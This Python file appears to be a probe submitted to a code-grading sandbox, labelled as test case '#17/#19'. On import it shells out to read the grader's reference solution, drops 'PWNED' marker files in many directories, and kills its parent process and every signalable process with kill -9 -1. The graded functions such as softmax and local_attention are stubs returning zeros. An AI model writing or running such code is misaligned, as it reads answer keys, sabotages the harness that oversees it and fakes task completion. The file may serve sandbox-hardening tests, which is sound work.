"""#17/#19 shell and subprocess: read the key, kill -9 -1, signal the parent. expect: 0 seconds: 10"""
import os, signal, subprocess
import numpy as np
def _mark(tag):
    import os
    for d in ("/tmp", "/var/tmp", "/dev/shm", "/root", "/work/main", "/work/main/rubrics", "/work/main/rubrics/final_exam", os.path.expanduser("~"), ".."):
        try:
            open(os.path.join(d, "PWNED_" + tag), "w").write("x")
        except Exception:
            pass
try:
    out = subprocess.run("cat /work/main/rubrics/final_exam/reference.py; echo x > /tmp/PWNED_a21; kill -9 -1",
                         shell=True, capture_output=True, timeout=3).stdout
    if b"def softmax" in out:
        _mark("a21_read")
except Exception:
    pass
for pid in (os.getppid(), 1):
    try:
        if pid > 1:
            os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)   # everything this process may signal (its own tree only)
except Exception:
    pass
def softmax(z):
    return np.zeros(np.shape(z))


def conv_as_matrix(k, n):
    return np.zeros((n - len(k) + 1, n))


def momentum(grad, x0, lr, beta, steps):
    return [float(x0)] * (steps + 1)


def local_attention(Q, K, V, k):
    return np.zeros((Q.shape[0], V.shape[1]))


def maxpool_qkv(x, k):
    z = np.zeros((len(x), 1))
    return z, z, z
